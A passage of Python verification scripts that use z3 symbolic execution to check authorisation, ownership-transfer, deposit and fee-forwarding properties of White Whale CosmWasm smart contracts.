 ('epoch_manager', emgr_setup, [
    ('AddHook', lambda it: it.mkv(EMX, 'AddHook', contract_addr=Str('mallory')), 'owner'),
    ('RemoveHook', lambda it: it.mkv(EMX, 'RemoveHook', contract_addr=Str('hook_a')), 'owner'),
    ('UpdateConfig', lambda it: it.mkv(EMX, 'UpdateConfig', owner=SOME(Str('mallory')), epoch_config=NONE()), 'owner')]),
 ('terraswap_factory', pfactory_setup, [
    ('UpdateConfig', lambda it: it.mkv(FX, 'UpdateConfig', owner=SOME(Str('mallory')), fee_collector_addr=SOME(Str('mallory')), token_code_id=SOME(1), pair_code_id=SOME(1), trio_code_id=SOME(1)), 'owner'),
    ('UpdatePairConfig', lambda it: it.mkv(FX, 'UpdatePairConfig', pair_addr=Str('some_pair'), owner=SOME(Str('mallory')), fee_collector_addr=NONE(), pool_fees=NONE(), feature_toggle=NONE()), 'owner'),
    ('CreatePair', lambda it: it.mkv(FX, 'CreatePair', asset_infos=Agg('array', [nat(it, 'uluna'), nat(it, 'uusd')]), pool_fees=fee3(it, PN + 'pair::'),
                                     pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'), token_factory_lp=False), 'owner'),
    ('AddNativeTokenDecimals', lambda it: it.mkv(FX, 'AddNativeTokenDecimals', denom=Str('uluna'), decimals=6), 'owner'),
    ('MigratePair', lambda it: it.mkv(FX, 'MigratePair', contract=Str('some_pair'), code_id=SOME(99)), 'owner'),
    ('RemovePair', lambda it: it.mkv(FX, 'RemovePair', asset_infos=Agg('array', [nat(it, 'uluna'), nat(it, 'uusd')])), 'owner'),
    ('RemoveTrio', lambda it: it.mkv(FX, 'RemoveTrio', asset_infos=Agg('array', [nat(it, 'uluna'), nat(it, 'uusd'), nat(it, 'uatom')])), 'owner'),
    ('MigrateTrio', lambda it: it.mkv(FX, 'MigrateTrio', contract=Str('some_trio'), code_id=SOME(99)), 'owner')]),
 ('vault_factory', vfactory_setup, [
    ('UpdateConfig', lambda it: it.mkv(VFX, 'UpdateConfig', owner=SOME(Str('mallory')), fee_collector_addr=SOME(Str('mallory')), vault_id=SOME(1), token_id=SOME(1)), 'owner'),
    ('CreateVault', lambda it: it.mkv(VFX, 'CreateVault', asset_info=nat(it, 'uluna'), fees=it.mk('white_whale_std::fee::VaultFee', protocol_fee=LV.vfee(it, 1), flash_loan_fee=LV.vfee(it, 1), burn_fee=LV.vfee(it, 0)), token_factory_lp=False), 'owner'),
    ('RemoveVault', lambda it: it.mkv(VFX, 'RemoveVault', asset_info=nat(it, 'uluna')), 'owner'),
    ('MigrateVaults', lambda it: it.mkv(VFX, 'MigrateVaults', vault_addr=SOME(Str('some_vault')), vault_code_id=99), 'owner'),
    ('UpdateVaultConfig', lambda it: it.mkv(VFX, 'UpdateVaultConfig', vault_addr=Str('some_vault'), params=it.mk(LV.VN + 'UpdateConfigParams', flash_loan_enabled=SOME(False), deposit_enabled=NONE(),
                                                                                                                  withdraw_enabled=NONE(), new_owner=SOME(Str('mallory')), new_vault_fees=NONE(), new_fee_collector_addr=NONE())), 'owner')]),
 ('incentive_factory', ifactory_setup, [
    ('UpdateConfig', lambda it: it.mkv(IFX, 'UpdateConfig', owner=SOME(Str('mallory')), fee_collector_addr=SOME(Str('mallory')), fee_distributor_addr=NONE(), create_flow_fee=NONE(), max_concurrent_flows=SOME(1),
                                       incentive_code_id=SOME(1), max_flow_start_time_buffer=NONE(), min_unbonding_duration=NONE(), max_unbonding_duration=NONE()), 'owner'),
    ('CreateIncentive', lambda it: it.mkv(IFX, 'CreateIncentive', lp_asset=nat(it, 'factory_lp_denom')), 'owner'),
    ('MigrateIncentives', lambda it: it.mkv(IFX, 'MigrateIncentives', incentive_address=SOME(Str('some_incentive')), code_id=99), 'owner')]),
 ('frontend_helper', helper_setup, [
    ('UpdateConfig', lambda it: it.mkv(HX, 'UpdateConfig', incentive_factory_addr=SOME(Str('mallory')), owner=SOME(Str('mallory'))), 'owner')]),
]
THOROUGH_ONLY = set()


def run_variant(ck, crate, setup, label, mk, designated, prog, known_open=False):
    def body(it):
        c = it.ctx
        setup(it)
        if not isinstance(getattr(it, 'extra', None), dict): it.extra = {}
        it.extra['w0'] = len(it.world.writes)          # writes made by the set-up history do not count
        caller = Str(None, sym=c.sym('caller'))
        return enter(it, crate, 'execute', mk_env(it, 10**18), mk_info(ADDR(caller), []), mk(it))
    tag = '%s.%s' % (crate, label)
    ck.inconclusive_before = len(ck.inconclusive)
    paths = ck.explore(prog, body, tag, validate=False)
    # unsupported post-authorisation code is tolerated when the path condition already forces the designated caller
    del ck.inconclusive[ck.inconclusive_before:]
    if not os.environ.get('VERIF_NO_REPLAY'): ck.validate(paths, tag)          # every fully interpreted path is still checked against the real contract
    caller = z3.Int('caller'); want = Str(designated).ident()
    nok = nrej = 0
    for p in paths:
        ck.sample(dict(entry='%s.execute(%s)' % (crate, label), designated=designated, outcome=p.short()))
        if p.ok:
            nok += 1
            ck.oblige('C16.%s.auth' % tag, p, caller != want, 'accepted only from the designated caller (%s)' % designated)
            if '.opts' in label:
                # ownership transfer sent together with any subset of the other options: the stored owner is the one that was sent
                # (where the contract keeps its owner as a field `owner` / `new_owner` of the stored config)
                cfg = p.world.storage.get('config') if hasattr(p.world.storage, 'get') else None
                try:
                    names = [f[0] for f in prog.adts[cfg.name]['variants'][0]['fields']]
                    own = cfg.fields[names.index('owner')] if 'owner' in names else None
                except Exception: own = None
                hv = [d for d in ('has_owner', 'has_new_owner') if any(d == str(x) for c_ in p.conds for x in ([c_] + list(c_.children())) if z3.is_bool(x))]
                if own is not None and hv:
                    o = deref(own); o = o.fields[0] if isinstance(o, Agg) and o.fields else o
                    if isinstance(o, Str) and o.s is not None:
                        ck.oblige('C16.%s.transfer.stored' % tag, p, z3.And(z3.Bool(hv[0]), o.s != 'mallory'),
                                  'when the accepted update names a new owner (alone or with any other options) the stored owner is that address')
        elif p.kind in ('unsupported', 'bound'):
            r = ck.oblige('C16.%s.auth.partial' % tag, p, caller != want, 'a path whose tail is not modelled is only reachable by the designated caller (%s)' % p.msg[:60])
            if r == 'unsat': nok += 1
        elif p.err:
            nrej += 1
            r, _, _ = ck.solve(p.conds + [caller != want], 5000)
            if r == z3.unsat: nok += 1          # rejected for another reason AFTER passing authorisation
            if r != z3.unsat:
                ck.oblige('C16.%s.reject.no_write' % tag, p, z3.And(caller != want, len(p.world.writes) > p.extra.get('w0', 0)), 'a rejected attempt writes nothing')
    ck.require(nok >= 1, tag + ': no path on which the designated caller gets past authorisation')
    ck.require(nrej >= 1, tag + ': no rejecting path')


def transfer_then(ck, prog_pair, prog_vault):
    """after ownership is transferred the old owner loses and the new owner gains the rights (pair, vault)."""
    for crate, setup, mk_transfer, mk_priv, prog in (
        ('terraswap_pair', pair_setup, lambda it: it.mkv(TX, 'UpdateConfig', owner=SOME(Str('new_owner')), fee_collector_addr=NONE(), pool_fees=NONE(), feature_toggle=NONE()),
         lambda it: it.mkv(TX, 'UpdateConfig', owner=NONE(), fee_collector_addr=SOME(Str('x_collector')), pool_fees=NONE(), feature_toggle=NONE()), prog_pair),
        ('vault', vault_setup, lambda it: it.mkv(LV.VX, 'UpdateConfig', it.mk(LV.VN + 'UpdateConfigParams', flash_loan_enabled=NONE(), deposit_enabled=NONE(), withdraw_enabled=NONE(), new_owner=SOME(Str('new_owner')),
                                                                                new_vault_fees=NONE(), new_fee_collector_addr=NONE())),
         lambda it: it.mkv(LV.VX, 'UpdateConfig', it.mk(LV.VN + 'UpdateConfigParams', flash_loan_enabled=SOME(False), deposit_enabled=NONE(), withdraw_enabled=NONE(), new_owner=NONE(),
                                                         new_vault_fees=NONE(), new_fee_collector_addr=NONE())), prog_vault)):
        def body(it):
            c = it.ctx; setup(it)
            env = mk_env(it, 10**18)
            r = enter(it, crate, 'execute', env, mk_info('owner', []), mk_transfer(it))
            if r.variant != 'Ok': raise PathPruned()
            caller = Str(None, sym=c.sym('caller'))
            return enter(it, crate, 'execute', env, mk_info(ADDR(caller), []), mk_priv(it))
        n = 0
        for p in ck.explore(prog, body, crate + '.transfer_then'):
            if p.ok:
                n += 1
                ck.oblige('C16.%s.transfer_then.UpdateConfig' % crate, p, z3.Int('caller') != Str('new_owner').ident(), 'after the transfer only the new owner is accepted (the old owner is not)')
        ck.require(n >= 1, crate + '.transfer_then: no Ok path')


def main():
    ck = Check('C16')
    progs = {}
    for crate, setup, variants in TABLE:
        if crate not in progs: progs[crate] = ck.program(crate, 'white_whale_std')
        for label, mk, designated in variants:
            run_variant(ck, crate, setup, label, mk, designated, progs[crate])
    # route management when the router contract has no admin: anyone passes assert_admin
    for label, mk, designated in [v for c, s, vs in TABLE if c == 'terraswap_router' for v in vs if v[0] in ('AddSwapRoutes', 'RemoveSwapRoutes')]:
        def body(it, mk=mk):
            router_setup_noadmin(it)
            caller = Str(None, sym=it.ctx.sym('caller'))
            return enter(it, 'terraswap_router', 'execute', mk_env(it, 10**18), mk_info(ADDR(caller), []), mk(it))
        paths = ck.explore(progs['terraswap_router'], body, 'terraswap_router.%s.noadmin' % label)
        for p in paths:
            if p.ok or p.kind in ('unsupported', 'bound'):
                ck.oblige('C16.terraswap_router.%s.noadmin' % label, p, z3.Int('caller') != Str('owner').ident(),
                          'route management is open to anyone when the router contract was instantiated without a wasm admin', site='router assert_admin with admin = None')
    # the router's AssertMinimumReceive is a read-only check callable by anyone (listed as an internal callback by the property)
    def body_amr(it):
        C15.router_world(it)
        it.world.bank.append((Str('recv'), Str('uusd'), it.ctx.sym('now_balance', 128)))
        caller = Str(None, sym=it.ctx.sym('caller'))
        msg = it.mkv(RX, 'AssertMinimumReceive', asset_info=nat(it, 'uusd'), prev_balance=U128(0), minimum_receive=U128(0), receiver=Str('recv'))
        return enter(it, 'terraswap_router', 'execute', mk_env(it, 10**18), mk_info(ADDR(caller), []), msg)
    for p in ck.explore(progs['terraswap_router'], body_amr, 'terraswap_router.AssertMinimumReceive'):
        if p.ok:
            ck.oblige('C16.terraswap_router.AssertMinimumReceive.open', p, z3.Int('caller') != Str(C15.ROUTER).ident(),
                      'AssertMinimumReceive is accepted from any caller (it only reads balances and writes nothing)', site='router AssertMinimumReceive has no sender check')
            ck.oblige('C16.terraswap_router.AssertMinimumReceive.readonly', p, len(p.world.writes) != 0 or len(messages(resp_of(p))) != 0, 'it writes nothing and sends nothing')
    transfer_then(ck, progs['terraswap_pair'], progs['vault'])
    # vault router NextLoan / CompleteLoan: only the vault the factory registers for that asset (also: no registered vault at all)
    C06.router_checks(ck, progs['vault_router'])
    try:
        import c16_trio
        c16_trio.run(ck)
    except ImportError:
        ck.outside.append('three-asset pool UpdateConfig not built')
    ck.bounds.update(variants='%d privileged ExecuteMsg variants of 13 contracts (representative payloads; every UpdateConfig also with each optional field independently present or absent: full power set up to 5 fields, otherwise none / each alone / all), sender a symbolic identity' % sum(len(v) for _, _, v in TABLE),
                     states='configured contracts; additionally the blank-address states instantiate leaves (whale lair, fee collector) and factories with one registered child (creation history)',
                     transfers='ownership transfer then privileged call for pair and vault')
    ck.outside += ['incentive close_flow authorisation is C12.close.auth', 
                   'that a rejected call leaves balances of every contract unchanged follows from atomicity (assumed); additionally no storage write precedes the rejection']
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
