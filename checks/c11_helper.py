"""C11 part: the frontend helper keeps nothing.  Deposit: every cw20 leg is pulled from the sender for exactly the stated amount and approved
to the pair for exactly that amount, all attached funds go to the pair with the same assets, and the reply then hands the helper's WHOLE LP
balance (approved / attached in full) to the incentive contract registered for that LP asset, as a position of the original sender."""
import z3
from lib_inc import *

FH = PN + 'frontend_helper::'
HELPER = 'frontend_helper_contract'
HX = FH + 'ExecuteMsg'
PAIRA = 'the_pair'
ASSET_N = ('native', 'uluna'); ASSET_C = ('cw20', 'token_b')


def helper_world(it):
    w = it.world; w.contract = HELPER
    w.item('config', it.mk(FH + 'Config', incentive_factory_addr=ADDR(FACTORY), owner=ADDR('owner')))


def deposit_step(ck, prog, cfg, prev=False):
    assets = {'nc': (ASSET_N, ASSET_C), 'cc': (('cw20', 'token_a'), ASSET_C), 'nn': (ASSET_N, ('native', 'uusd'))}[cfg]
    def body(it):
        c = it.ctx; helper_world(it)
        if prev:
            # what an earlier deposit by somebody else left behind: same pair, any duration (possibly the same one)
            it.world.item('temp_state', it.mk(FH + 'TempState', unbonding_duration=c.sym('prev_duration', 64), receiver=ADDR('bob'), pair_addr=ADDR(PAIRA)))
        amts = [c.sym('amt0', 128), c.sym('amt1', 128)]
        funds = []
        for (kind, name), a in zip(assets, amts):
            if kind == 'native': funds.append(COIN(name, c.sym('att_' + name, 128)))
            else: it.world.allow.append((Str(name), Str('alice'), Str(HELPER), c.sym('allow_' + name, 128)))
        msg = it.mkv(HX, 'Deposit', pair_address=Str(PAIRA), assets=Agg('array', [masset(it, k, n, a) for (k, n), a in zip(assets, amts)]),
                     slippage_tolerance=SOME(DEC(c.sym('slippage', 128))), unbonding_duration=c.sym('duration', 64))
        it.extra = dict(amts=amts)
        return enter(it, 'frontend_helper', 'execute', mk_env(it, 10**18), mk_info('alice', funds), msg)
    n = 0
    for p in ck.explore(prog, body, 'helper.deposit.' + cfg + ('.after_other' if prev else '')):
        ck.sample(dict(entry='frontend_helper.execute(deposit)', cfg=cfg, outcome=p.short()))
        if not p.ok: continue
        n += 1
        amts = p.extra['amts']; resp = resp_of(p)
        execs = wasm_execs(resp)
        pair_calls = [e for e in execs if same(sname(e[0]), PAIRA)]
        okp = len(pair_calls) == 1 and isinstance(pair_calls[0][1], Enum) and pair_calls[0][1].variant == 'ProvideLiquidity' and pair_calls[0][3].fields[3].variant == 'Always' and execs[-1] is pair_calls[0]
        ck.oblige('C11.helper.deposit.pair_call.' + cfg, p, not okp, 'exactly one ProvideLiquidity to the named pair, last, with a reply in every case')
        if not okp: continue
        pl = pair_calls[0][1]
        same_assets = z3.And(*[pl.fields[0].fields[i].fields[1].fields[0] == amts[i] for i in (0, 1)])
        names_ok = all(same(pl.fields[0].fields[i].fields[0].fields[0], assets[i][1]) for i in (0, 1))
        ck.oblige('C11.helper.deposit.same_assets.' + cfg, p, z3.Or(z3.Not(same_assets), not names_ok, pl.fields[2].variant != 'None', pl.fields[1].variant != 'Some'),
                  'the pair is asked to take exactly the stated assets, with the caller\'s tolerance, LP to the helper itself (handed on in the reply)')
        # native funds: everything attached goes to the pair
        sent = pair_calls[0][2]
        nat = [(k, nm) for (k, nm) in assets if k == 'native']
        okf = len(sent) == len(nat) and all(same(x.fields[0], nm) for x, (_, nm) in zip(sent, nat))
        ck.oblige('C11.helper.deposit.funds_forwarded.' + cfg, p, (not okf) or z3.Or(*[x.fields[1].fields[0] != z3.Int('att_' + nm) for x, (_, nm) in zip(sent, nat)]) if nat else len(sent) != 0,
                  'every attached coin is forwarded to the pair in full')
        # cw20 legs: pulled exactly, approved exactly, only with a matching allowance
        others = [e for e in execs if e is not pair_calls[0]]
        want = [(nm, amts[i]) for i, (k, nm) in enumerate(assets) if k == 'cw20']
        shape = len(others) == 2 * len(want)
        bad = []
        for j, (nm, a) in enumerate(want):
            if not shape: break
            t1, m1, _, _ = others[2 * j]; t2, m2, _, _ = others[2 * j + 1]
            shape = shape and same(sname(t1), nm) and same(sname(t2), nm) and m1.variant == 'TransferFrom' and m2.variant == 'IncreaseAllowance'
            if not shape: break
            bad += [not same(m1.fields[0], 'alice'), not same(m1.fields[1], HELPER), m1.fields[2].fields[0] != a, not same(m2.fields[0], PAIRA), m2.fields[1].fields[0] != a, z3.Int('allow_' + nm) != a]
        ck.oblige('C11.helper.deposit.cw20_legs.' + cfg, p, (not shape) or (z3.Or(*[b for b in bad if not isinstance(b, bool)]) if not any(b is True for b in bad) else True) if want else len(others) != 0,
                  'each cw20 leg: TransferFrom(sender -> helper, amount) then IncreaseAllowance(pair, amount), only when the sender\'s allowance equals the amount; nothing else is emitted')
        ts = p.world.storage.get('temp_state')
        ck.oblige('C11.helper.deposit.temp_state.' + cfg, p, ts is None or z3.Or(ts.fields[0] != z3.Int('duration'), not same(ts.fields[1].fields[0], 'alice'), not same(ts.fields[2].fields[0], PAIRA)),
                  'the pending deposit remembers the sender, the pair and the duration')
    ck.require(n >= 1, 'helper deposit %s: no Ok path' % cfg)
    if not prev and cfg == 'nc': deposit_step(ck, prog, cfg, prev=True)


def reply_step(ck, prog, lp_kind, existing):
    lp = LPN[lp_kind]
    def body(it):
        c = it.ctx; helper_world(it)
        D = c.sym('duration', 64)
        it.world.item('temp_state', it.mk(FH + 'TempState', unbonding_duration=D, receiver=ADDR('alice'), pair_addr=ADDR(PAIRA)))
        lpinfo = ainfo(it, lp_kind, lp)
        it.world.smart_table.append((PAIRA, it.mkv(PN + 'pair::QueryMsg', 'Pair'), it.mk(PN + 'asset::PairInfo', asset_infos=Agg('array', [ainfo(it, *ASSET_N), ainfo(it, *ASSET_C)]), contract_addr=Str(PAIRA),
                                                                                          liquidity_token=lpinfo, asset_decimals=Agg('array', [6, 6]), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'))))
        it.world.smart_table.append((FACTORY, it.mkv(IF + 'QueryMsg', 'Incentive', lp_asset=ainfo(it, lp_kind, lp)), SOME(ADDR(INC))))
        bal = c.sym('helper_lp_balance', 128)
        if lp_kind == 'native': it.world.bank.append((Str(HELPER), Str(lp), bal))
        else: it.world.cw20.append((Str(lp), Str(HELPER), bal))
        pos = []
        if existing != 'none':
            pd = D if existing == 'same' else c.sym('other_duration', 64)
            if existing == 'other': c.assume(pd != D)
            pos.append(it.mkv(I + 'QueryPosition', 'OpenPosition', amount=U128(c.sym('pos_amount', 128)), unbonding_duration=pd, weight=U128(c.sym('pos_weight', 128))))
        pos.append(it.mkv(I + 'QueryPosition', 'ClosedPosition', amount=U128(5), unbonding_timestamp=D, weight=U128(5)))      # a closed position never counts
        it.world.smart_table.append((INC, it.mkv(I + 'QueryMsg', 'Positions', address=Str('alice')), it.mk(I + 'PositionsResponse', timestamp=7, positions=VecV(pos))))
        rep = Agg('cosmwasm_std::Reply', [1, Enum('cosmwasm_std::SubMsgResult', 'Ok', [Agg('cosmwasm_std::SubMsgResponse', [VecV([]), NONE()])])])
        return enter(it, 'frontend_helper', 'reply', mk_env(it, 10**18), None, rep)
    tag = 'helper.reply.%s.%s' % (lp_kind[0], existing)
    n = 0
    for p in ck.explore(prog, body, tag):
        ck.sample(dict(entry='frontend_helper.reply(deposit)', lp=lp_kind, existing_position=existing, outcome=p.short()))
        if not p.ok: continue
        n += 1
        execs = wasm_execs(resp_of(p)); bal = z3.Int('helper_lp_balance')
        inc = [e for e in execs if same(sname(e[0]), INC)]
        ok = len(inc) == 1 and execs[-1] is inc[0] and isinstance(inc[0][1], Enum) and inc[0][1].variant == ('ExpandPosition' if existing == 'same' else 'OpenPosition')
        ck.oblige('C11.helper.reply.position_msg.' + tag, p, not ok, 'one message to the registered incentive contract: expand when the sender already has an open position with that duration, open otherwise')
        if not ok: continue
        m = inc[0][1]
        ck.oblige('C11.helper.reply.whole_balance.' + tag, p, True if (m.fields[2].variant != 'Some' or not same(m.fields[2].fields[0], 'alice')) else z3.Or(m.fields[0].fields[0] != bal, m.fields[1] != z3.Int('duration')),
                  'the position is for the helper\'s whole LP balance, the stored duration and the original sender')
        if lp_kind == 'native':
            fl = inc[0][2]
            shape_n = len(fl) == 1 and same(fl[0].fields[0], lp) and len(execs) == 1
            ck.oblige('C11.helper.reply.lp_handed_over.' + tag, p, (not shape_n) or fl[0].fields[1].fields[0] != bal, 'the whole native LP balance is attached; nothing else is emitted')
        else:
            appr = [e for e in execs if same(sname(e[0]), lp)]
            okc = len(appr) == 1 and len(execs) == 2 and appr[0][1].variant == 'IncreaseAllowance' and same(appr[0][1].fields[0], INC)
            ck.oblige('C11.helper.reply.lp_handed_over.' + tag, p, (not okc) or appr[0][1].fields[1].fields[0] != bal, 'the incentive contract is approved for exactly the whole LP balance; nothing else is emitted')
    ck.require(n >= 1, tag + ': no Ok path')


def reply_failure(ck, prog):
    def body(it):
        helper_world(it)
        it.world.item('temp_state', it.mk(FH + 'TempState', unbonding_duration=86400, receiver=ADDR('alice'), pair_addr=ADDR(PAIRA)))
        rep = Agg('cosmwasm_std::Reply', [1, Enum('cosmwasm_std::SubMsgResult', 'Err', [Str('provide failed')])])
        return enter(it, 'frontend_helper', 'reply', mk_env(it, 10**18), None, rep)
    for p in ck.explore(prog, body, 'helper.reply.failed'):
        ck.oblige('%s.helper.reply.failure_reverts' % ck.pid, p, p.ok, 'a failed deposit makes the reply fail, so the pulled tokens and approvals are rolled back with the transaction')


def run(ck):
    prog = ck.program('frontend_helper', 'white_whale_std')
    for cfg in ('nc', 'cc', 'nn'): deposit_step(ck, prog, cfg)
    for lp_kind in ('native', 'cw20'):
        for existing in ('none', 'same', 'other'): reply_step(ck, prog, lp_kind, existing)
    reply_failure(ck, prog)
    ck.bounds['helper'] = 'frontend helper: deposit with native/cw20, cw20/cw20, native/native assets (amounts, allowances, funds symbolic); reply with native and cw20 LP, receiver with none / same-duration / other-duration open position'
