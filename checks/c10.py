"""C10 — fee pipeline: owed protocol fees reach the epoch, minus only the take rate (message-shape and reply obligations)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from engine.harness import *

FC = 'white_whale_std::fee_collector::'
FD = 'white_whale_std::fee_distributor::'
WL = 'white_whale_std::whale_lair::'
EM = 'white_whale_std::epoch_manager::epoch_manager::'
PN = 'white_whale_std::pool_network::'
VF = 'white_whale_std::vault_network::vault_factory::'
AI = PN + 'asset::AssetInfo'
COLL = 'fee_collector_contract'; DIST = 'fee_distributor_contract'; ROUTER = 'pool_router_contract'
PFACT = 'pool_factory_contract'; VFACT = 'vault_factory_contract'; DAO = 'dao_treasury'
CX = FC + 'ExecuteMsg'
DISTR_ASSET = 'uwhale'
MINAGG = 1000


def nat(it, d): return it.mkv(AI, 'NativeToken', denom=Str(d))
def tok(it, a): return it.mkv(AI, 'Token', contract_addr=Str(a))
def nasset(it, d, amt): return it.mk(PN + 'asset::Asset', info=nat(it, d), amount=U128(amt))


def setup_coll(it, active=None, rate=None, dao=DAO, distr=DISTR_ASSET, fresh=False):
    c = it.ctx; w = it.world; w.contract = COLL
    act = active if active is not None else c.symbool('take_rate_active')
    r = rate if rate is not None else c.sym('take_rate', 128)
    b = (lambda x: '') if fresh else (lambda x: x)          # fresh: the blank addresses instantiate leaves behind
    w.item('config', it.mk(FC + 'Config', owner=ADDR('owner'), pool_router=ADDR(b(ROUTER)), fee_distributor=ADDR(b(DIST)), pool_factory=ADDR(b(PFACT)),
                           vault_factory=ADDR(b(VFACT)), take_rate=DEC(r), take_rate_dao_address=ADDR(b(dao)), is_take_rate_active=act))
    c.assume(r < E18)
    dcfg = it.mk(FD + 'Config', owner=ADDR('owner'), bonding_contract_addr=ADDR('whale_lair_contract'), fee_collector_addr=ADDR(COLL), grace_period=U64(21),
                 epoch_config=it.mk(EM + 'EpochConfig', duration=U64(86400 * 10**9), genesis_epoch=U64(10**18)),
                 distribution_asset=nat(it, distr) if not distr.startswith('cw20:') else tok(it, distr[5:]))
    w.smart_table.append((DIST, it.mkv(FD + 'QueryMsg', 'Config'), dcfg))
    return dict(active=act, rate=r)


def mk_epoch(it, c):
    return it.mk(FD + 'Epoch', id=U64(c.sym('epoch_id', 64)), start_time=TS(c.sym('epoch_start', 64)), total=VecV([]), available=VecV([]), claimed=VecV([]),
                 global_index=it.mk(WL + 'GlobalIndex', bonded_amount=U128(0), bonded_assets=VecV([]), timestamp=TS(0), weight=U128(0)))


def forward(ck, prog):
    def body(it):
        c = it.ctx; setup_coll(it)
        sender = Str(None, sym=c.sym('ff_sender'))
        msg = it.mkv(CX, 'ForwardFees', epoch=mk_epoch(it, c), forward_fees_as=nat(it, DISTR_ASSET))
        return enter(it, 'fee_collector', 'execute', mk_env(it, 10**18), mk_info(ADDR(sender), []), msg)
    n = 0
    for p in ck.explore(prog, body, 'forward_fees'):
        ck.sample(dict(entry='fee_collector.execute(forward_fees)', outcome=p.short()))
        if not p.ok: continue
        n += 1
        ck.oblige('C10.coll.forward.auth', p, z3.Int('ff_sender') != Str(DIST).ident(), 'only the fee distributor can trigger forwarding')
        subs = messages(resp_of(p)); calls = wasm_execs(resp_of(p))
        want = [('CollectFees', VFACT, 'Vault', 'Never'), ('CollectFees', PFACT, 'Pool', 'Never'), ('AggregateFees', VFACT, 'Vault', 'Never'), ('AggregateFees', PFACT, 'Pool', 'Success')]
        ok = len(calls) == 4 and len(subs) == 4
        if ok:
            for (to, m, funds, sm), (var, fact, ftype, ro) in zip(calls, want):
                ff = m.fields[0] if isinstance(m, Enum) else None
                ok = ok and same(sname(to), COLL) and len(funds) == 0 and isinstance(m, Enum) and m.variant == var and ff.variant == 'Factory' \
                    and same(ff.fields[0], fact) and ff.fields[1].variant == ftype and sm.fields[3].variant == ro
            ok = ok and subs[3][0].fields[0] == 2
        ck.oblige('C10.coll.forward.submsgs', p, not ok, 'four self-submessages in the fixed order collect(vaults), collect(pools), aggregate(vaults), aggregate(pools); only the last replies (on success)')
        tmp = p.world.storage.get('tmp_epoch')
        ck.oblige('C10.coll.forward.tmp_epoch', p, tmp is None or z3.Or(tmp.fields[0].fields[0] != z3.Int('epoch_id'), tmp.fields[1].fields[0].fields[0] != z3.Int('epoch_start')),
                  'the epoch handed over by the distributor is kept unchanged for the reply')
    ck.require(n >= 1, 'forward_fees: no Ok path')


def vaults_resp(it, names):
    return it.mk(VF + 'VaultsResponse', vaults=VecV([it.mk(VF + 'VaultInfo', vault=Str(v), asset_info=ai, asset_info_reference=VecV([])) for v, ai in names]))


def pairs_resp(it, pairs):
    return it.mk(PN + 'factory::PairsResponse', pairs=VecV([it.mk(PN + 'asset::PairInfo', asset_infos=Agg('array', [a0, a1]), contract_addr=Str(addr), liquidity_token=tok(it, 'lp_' + addr),
                                                                  asset_decimals=Agg('array', [6, 6]), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct')) for addr, a0, a1 in pairs]))


def vq(it): return it.mkv(VF + 'QueryMsg', 'Vaults', start_after=NONE(), limit=SOME(30))
def pq(it): return it.mkv(PN + 'factory::QueryMsg', 'Pairs', start_after=NONE(), limit=SOME(30))
def ffor(it, fact, ftype): return it.mkv(FC + 'FeesFor', 'Factory', factory_addr=Str(fact), factory_type=it.mkv(FC + 'FactoryType', ftype, start_after=NONE(), limit=SOME(30)))


def collect(ck, prog):
    for ftype, nchildren in (('Vault', 0), ('Vault', 2), ('Pool', 1), ('Pool', 2)):
        def body(it, ftype=ftype, nchildren=nchildren):
            c = it.ctx; setup_coll(it)
            if ftype == 'Vault':
                kids = [('vault_%d' % i, nat(it, 'asset%d' % i)) for i in range(nchildren)]
                it.world.smart_table.append((VFACT, vq(it), vaults_resp(it, kids))); names = [k[0] for k in kids]
            else:
                kids = [('pair_%d' % i, nat(it, 'asset%d' % i), tok(it, 'token_%d' % i)) for i in range(nchildren)]
                it.world.smart_table.append((PFACT, pq(it), pairs_resp(it, kids))); names = [k[0] for k in kids]
            it.extra = dict(names=names)
            msg = it.mkv(CX, 'CollectFees', collect_fees_for=ffor(it, VFACT if ftype == 'Vault' else PFACT, ftype))
            return enter(it, 'fee_collector', 'execute', mk_env(it, 10**18), mk_info('anyone', []), msg)
        tag = 'collect.%s.%d' % (ftype, nchildren)
        n = 0
        for p in ck.explore(prog, body, tag):
            if not p.ok: continue
            n += 1
            calls = wasm_execs(resp_of(p)); names = p.extra['names']
            ok = len(calls) == len(names) and len(messages(resp_of(p))) == len(names)
            for (to, m, funds, sm), nm in zip(calls, names):
                ok = ok and same(sname(to), nm) and len(funds) == 0 and isinstance(m, Enum) and m.variant == 'CollectProtocolFees' and sm.fields[3].variant == 'Never' \
                    and m.name == ('white_whale_std::vault_network::vault::ExecuteMsg' if ftype == 'Vault' else PN + 'pair::ExecuteMsg')
            ck.oblige('C10.coll.collect.children.' + tag, p, not ok, 'exactly one CollectProtocolFees per child the factory lists, to that child')
        ck.require(n >= 1, tag + ': no Ok path')


def aggregate(ck, prog):
    """one native and one cw20 non-distribution asset (plus the distribution asset itself) from a pool factory with two pairs."""
    for route_ok, sim_ok, source in ((True, True, 'Pool'), (True, False, 'Pool'), (False, True, 'Pool'), (True, True, 'Vault'), (False, True, 'Vault')):
        if True:
            def body(it, route_ok=route_ok, sim_ok=sim_ok, source=source):
                c = it.ctx; setup_coll(it)
                w = it.world
                if source == 'Pool':
                    pairs = [('pair_0', nat(it, DISTR_ASSET), nat(it, 'uatom')), ('pair_1', tok(it, 'token_x'), nat(it, DISTR_ASSET))]
                    w.smart_table.append((PFACT, pq(it), pairs_resp(it, pairs)))
                else:
                    # a vault factory that lists a vault of the distribution asset itself, next to a native and a cw20 vault
                    w.smart_table.append((VFACT, vq(it), vaults_resp(it, [('vault_0', nat(it, 'uatom')), ('vault_1', nat(it, DISTR_ASSET)), ('vault_2', tok(it, 'token_x'))])))
                bn, bc, bd = c.sym('bal_uatom', 128), c.sym('bal_token_x', 128), c.sym('bal_distr', 128)
                w.cw20_info['token_x'] = dict(total_supply=c.sym('token_x_supply', 128), decimals=6)
                w.bank.append((Str(COLL), Str('uatom'), bn)); w.bank.append((Str(COLL), Str(DISTR_ASSET), bd)); w.cw20.append((Str('token_x'), Str(COLL), bc))
                RQ = PN + 'router::QueryMsg'
                op = lambda a: VecV([it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=a, ask_asset_info=nat(it, DISTR_ASSET))])
                for a, bal in ((nat(it, 'uatom'), bn), (tok(it, 'token_x'), bc)):
